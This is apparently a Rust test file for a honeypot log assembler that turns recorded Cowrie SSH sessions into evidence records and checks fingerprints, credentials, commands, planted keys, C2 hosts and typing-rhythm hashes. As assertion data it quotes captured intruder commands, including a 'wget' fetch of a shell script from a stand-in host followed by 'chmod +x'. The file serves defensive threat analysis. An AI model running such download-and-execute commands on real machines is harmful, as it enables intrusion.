//! Tests of the Cowrie core over the recorded lab log and the hand-edited
//! edge cases in `tests/data/cowrie/`.

use super::ttylog::{digraphs, inputs, simhash, Input};
use super::*;
use serde_json::Value;

const LAB: &str = include_str!("../../../tests/data/cowrie/lab-small.json");
const EDGE: &str = include_str!("../../../tests/data/cowrie/edge-cases.json");
const TRUTH: &str = include_str!("../../../tests/data/cowrie/lab-small.truth.json");

fn assemble(text: &str) -> (Vec<Evidence>, Stats) {
    let mut a = Assembler::new("cowrie");
    let mut out = Vec::new();
    let mut offset = 0u64;
    for line in text.split_inclusive('\n') {
        out.extend(a.push_line(line.as_bytes(), offset));
        offset += line.len() as u64;
    }
    out.extend(a.finish());
    (out, a.stats().clone())
}

fn session<'a>(all: &'a [Evidence], id: &str) -> &'a Evidence {
    all.iter()
        .find(|e| e.session == id)
        .expect("session present")
}

fn payload(e: &Evidence) -> Value {
    let ev = e.events(None);
    assert_eq!(ev.len(), 1);
    serde_json::from_str(&ev[0].payload).unwrap()
}

#[test]
fn lab_log_every_session_and_source() {
    let (all, stats) = assemble(LAB);
    assert_eq!(stats.records, 163);
    assert_eq!(
        (stats.malformed, stats.unknown_event_ids, stats.late),
        (0, 0, 0)
    );
    assert_eq!(stats.sessions, 16);
    assert_eq!(all.len(), 16);
    let truth: Value = serde_json::from_str(TRUTH).unwrap();
    let sources = truth["sources"].as_object().unwrap();
    let ips: BTreeSet<String> = all.iter().map(|e| e.ip.unwrap().to_string()).collect();
    let want: BTreeSet<String> = sources.keys().cloned().collect();
    assert_eq!(ips, want);
    assert_eq!(stats.observations, want.len() as u64);
}

#[test]
fn lab_log_fields_map_to_spec() {
    let (all, _) = assemble(LAB);
    let truth: Value = serde_json::from_str(TRUTH).unwrap();
    // A paramiko scanner: HASSH, client version, credentials, times.
    let s = all.iter().find(|e| e.session == "9480d55e8bfb").unwrap();
    let p = payload(s);
    assert_eq!(p["ip"], "127.236.198.183");
    assert_eq!(
        p["uuid"],
        observation_uuid(&"127.236.198.183".parse().unwrap())
    );
    let fps = p["fingerprints"].as_array().unwrap();
    assert!(fps.contains(
        &serde_json::json!({"kind": "hassh", "value": "4c94058d5e9e31659879f79fd5b46084"})
    ));
    assert!(fps.contains(
        &serde_json::json!({"kind": "ssh_client_version", "value": "SSH-2.0-paramiko_5.1.0"})
    ));
    let sess = &p["sessions"][0];
    assert_eq!(sess["session_id"], "decky-01:9480d55e8bfb");
    assert_eq!(sess["decky_id"], "decky-01");
    assert_eq!(sess["ended_at"], "2026-12-02T10:27:47.410Z");
    assert!(!sess["credentials"].as_array().unwrap().is_empty());
    // Operator A's key, planted by a command on the hand-off sensor; B's
    // public-key logins.
    let a_key = truth["keys"]["operator-a"]["sha256"].as_str().unwrap();
    let b_key = truth["keys"]["operator-b"]["sha256"].as_str().unwrap();
    assert!(all.iter().any(|e| e.planted_keys.contains(a_key)));
    let auth: BTreeSet<&str> = all
        .iter()
        .flat_map(|e| e.auth_keys.iter().map(String::as_str))
        .collect();
    assert!(auth.contains(a_key) && auth.contains(b_key), "{auth:?}");
    // A's download attempts name the C2 host, from the URL in the line and
    // from the failed downloads.
    assert!(all.iter().any(|e| e.c2_hosts.contains("1.2.3.4")));
    // Commands are split as a shell would run them.
    assert!(all
        .iter()
        .any(|e| e.commands.iter().any(|c| c == "cat /proc/version")));
    // The prober that drops before the key exchange: version, no HASSH.
    let prober = all
        .iter()
        .find(|e| e.hassh.is_none())
        .expect("a failed kex");
    assert!(prober
        .client_version
        .as_deref()
        .unwrap()
        .contains("libssh2"));
}

#[test]
fn edge_cases_every_quirk() {
    let (all, stats) = assemble(EDGE);
    assert_eq!(stats.malformed, 1, "the cut-off line");
    assert_eq!(stats.unknown_event_ids, 1, "cowrie.example.unknown");
    let old = session(&all, "a1b2c3d4e5f6");
    assert_eq!(old.duration_ms, Some(1520));
    let p = payload(old);
    assert_eq!(p["sessions"][0]["started_at"], "2021-03-04T05:06:01.000Z");
    assert_eq!(
        p["sessions"][0]["commands"],
        serde_json::json!(["uname -s -v -n -r -m"])
    );
    assert_eq!(
        p["sessions"][0]["credentials"],
        serde_json::json!([["root", "Zx9!old"]])
    );
    let new = session(&all, "f0e1d2c3b4a5");
    let key = "SHA256:P1nQrZ0SK5ofVLcHZS04mOIFZ8844/aHVLng1KB5DQs";
    assert_eq!(new.auth_keys.iter().collect::<Vec<_>>(), vec![key]);
    assert_eq!(new.planted_keys.iter().collect::<Vec<_>>(), vec![key]);
    assert_eq!(new.payload_hashes.len(), 3, "{:?}", new.payload_hashes);
    let hosts: Vec<&str> = new.c2_hosts.iter().map(String::as_str).collect();
    assert_eq!(hosts, vec!["203.0.113.5", "203.0.113.6", "dl.example.net"]);
    assert!(new
        .commands
        .contains(&"wget http://203.0.113.5/a.sh".to_string()));
    assert!(new.commands.contains(&"chmod +x b.bin".to_string()));
    assert!(new.commands.iter().all(|c| !c.contains('\0')));
    assert_eq!(new.duration_ms, Some(3205));
    // The singular wire fields: one session entry per payload/C2/key.
    let p = payload(new);
    let entries = p["sessions"].as_array().unwrap();
    assert_eq!(entries.len(), 1 + 3 + 3 + 1);
    assert!(entries
        .iter()
        .all(|e| e["session_id"] == "decky-09:f0e1d2c3b4a5"));
}

#[test]
fn events_are_derived_from_content() {
    let (a, _) = assemble(LAB);
    let (b, _) = assemble(LAB);
    let ids = |v: &[Evidence]| -> BTreeSet<String> {
        v.iter()
            .flat_map(|e| e.events(None))
            .map(|e| e.event_id)
            .collect()
    };
    assert_eq!(ids(&a), ids(&b));
    assert_eq!(ids(&a).len(), 16);
    let e = &a[0];
    assert_ne!(e.events(None)[0].event_id, e.events(Some(7))[0].event_id);
}

#[test]
fn events_fit_the_daemon_limits() {
    use crate::evidence::event::{parse_entry, Limits};
    let mut e = Evidence::new("s", "x");
    e.ip = Some("192.0.2.1".parse().unwrap());
    e.commands = (0..1500)
        .map(|i| format!("echo {i} {}", "y".repeat(200)))
        .collect();
    let events = e.events(None);
    assert!(events.len() > 1);
    let mut n = 0;
    for ev in &events {
        let fields = [
            ("topic", "attacker.observed"),
            ("event_id", &ev.event_id),
            ("payload", &ev.payload),
        ];
        let p = parse_entry(&fields, &Limits::default()).expect("within limits");
        n += p
            .observation
            .sessions
            .values()
            .map(|s| s.commands.len())
            .sum::<usize>();
    }
    assert_eq!(n, 1500);
}

#[test]
fn restart_replay_republishes_nothing_partial() {
    let lines: Vec<&str> = LAB.split_inclusive('\n').collect();
    let (clean, _) = assemble(LAB);
    let clean_ids: BTreeSet<String> = clean
        .iter()
        .flat_map(|e| e.events(None))
        .map(|e| e.event_id)
        .collect();
    for cut in [10, 40, 80, 120] {
        let mut a = Assembler::new("cowrie");
        let mut ids = BTreeSet::new();
        let mut offset = 0u64;
        for l in &lines[..cut] {
            ids.extend(
                a.push_line(l.as_bytes(), offset)
                    .iter()
                    .flat_map(|e| e.events(None))
                    .map(|e| e.event_id),
            );
            offset += l.len() as u64;
        }
        let resume = a.resume_offset(offset);
        let open: BTreeSet<String> = a.open_sessions().into_iter().collect();
        let mut b = Assembler::new("cowrie");
        b.replay(Replay {
            open,
            until: offset,
        });
        let mut at = 0u64;
        for l in &lines {
            if at >= resume {
                ids.extend(
                    b.push_line(l.as_bytes(), at)
                        .iter()
                        .flat_map(|e| e.events(None))
                        .map(|e| e.event_id),
                );
            }
            at += l.len() as u64;
        }
        assert_eq!(ids, clean_ids, "cut at line {cut}");
    }
}

fn typed(text: &str, base_ms: f64, spread_ms: f64, seed: u64) -> Vec<Input> {
    let mut t = 1_000_000_000u64;
    let mut x = seed;
    text.bytes()
        .map(|b| {
            x = x
                .wrapping_mul(6364136223846793005)
                .wrapping_add(1442695040888963407);
            let u = (x >> 11) as f64 / (1u64 << 53) as f64 * 2.0 - 1.0;
            let slow = if b == b' ' || b == b';' {
                0.6 * base_ms
            } else {
                0.0
            };
            t += ((base_ms + slow + u * spread_ms).max(4.0) * 1000.0) as u64;
            Input {
                at_us: t,
                bytes: vec![b],
            }
        })
        .collect()
}

#[test]
fn simhash_same_typist_close_other_rhythm_far() {
    let d = |a: u64, b: u64| (a ^ b).count_ones();
    let h = |text: &str, base, spread, seed| {
        simhash(&digraphs(&[typed(text, base, spread, seed)])).unwrap()
    };
    let t1 = "uname -a; cat /proc/cpuinfo | grep name; free -m; w";
    let t2 = "cat /etc/os-release; id; ls -la /tmp; df -h; uptime";
    let a1 = h(t1, 22.0, 10.0, 1);
    let a2 = h(t2, 22.0, 10.0, 2);
    let a3 = h(t1, 22.0, 10.0, 3);
    let c1 = h(t1, 60.0, 18.0, 4);
    let c2 = h(t2, 60.0, 18.0, 5);
    assert!(d(a1, a3) < d(a1, c1), "{} {}", d(a1, a3), d(a1, c1));
    assert!(d(a1, a2) < d(a1, c2), "{} {}", d(a1, a2), d(a1, c2));
    assert!(d(a1, a3) <= 12, "{}", d(a1, a3));
    assert!(d(a1, c1) >= 20, "{}", d(a1, c1));
    // Too few keystrokes, pastes and exec logs give none.
    assert_eq!(simhash(&digraphs(&[typed("ls", 20.0, 1.0, 1)])), None);
    let paste = vec![
        Input {
            at_us: 1,
            bytes: b"uname -a\n".to_vec()
        };
        20
    ];
    assert_eq!(simhash(&digraphs(&[paste])), None);
}

#[test]
fn ttylog_records_read_and_bounded() {
    let dir = concat!(
        env!("CARGO_MANIFEST_DIR"),
        "/tests/data/cowrie/lab-small-state/decky-01/var/lib/cowrie/tty/"
    );
    let typed = std::fs::read(format!(
        "{dir}12c90839b2029fa77a436cb25ca5d695cf339de19e64cf6016cefede00b510ba"
    ))
    .unwrap();
    let ins = inputs(&typed).unwrap();
    assert_eq!(ins.len(), 65);
    assert_eq!(ins[0].bytes, b"c");
    assert!(simhash(&digraphs(&[ins])).is_some());
    let exec = std::fs::read(format!(
        "{dir}f25297859cf0a70af5c053a5464a5fa647a35ceee1d91397331903846d79ffc1"
    ))
    .unwrap();
    assert!(inputs(&exec).unwrap().is_empty());
    assert!(inputs(&typed[..typed.len() - 3]).is_err());
    assert!(inputs(&[0u8; 5]).is_err());
}

#[test]
fn hostile_lines_never_panic() {
    let mut a = Assembler::new("s");
    for line in [
        &b"\xff\xfe"[..],
        b"[]",
        b"{\"eventid\": 5, \"session\": \"x\"}",
        b"{\"eventid\": \"cowrie.session.connect\"}",
        b"{\"eventid\": \"cowrie.command.input\", \"session\": \"x\", \"input\": [1]}",
        b"{\"eventid\": \"cowrie.session.closed\", \"session\": \"x\", \"duration\": \"x\", \"timestamp\": \"2026-01-01T00:00:00+0000\"}",
        b"{\"eventid\": \"cowrie.session.connect\", \"session\": \"y\", \"src_ip\": \"::1\", \"timestamp\": \"2026-01-01T00:00:00\xc3\xa9\"}",
        b"\0\0\0\0",
    ] {
        a.push_line(line, 0);
    }
    assert_eq!(a.stats().malformed, 4);
    assert_eq!(
        a.stats().without_ip,
        1,
        "session x closed without an address"
    );
    assert_eq!(a.finish().len(), 1);
}
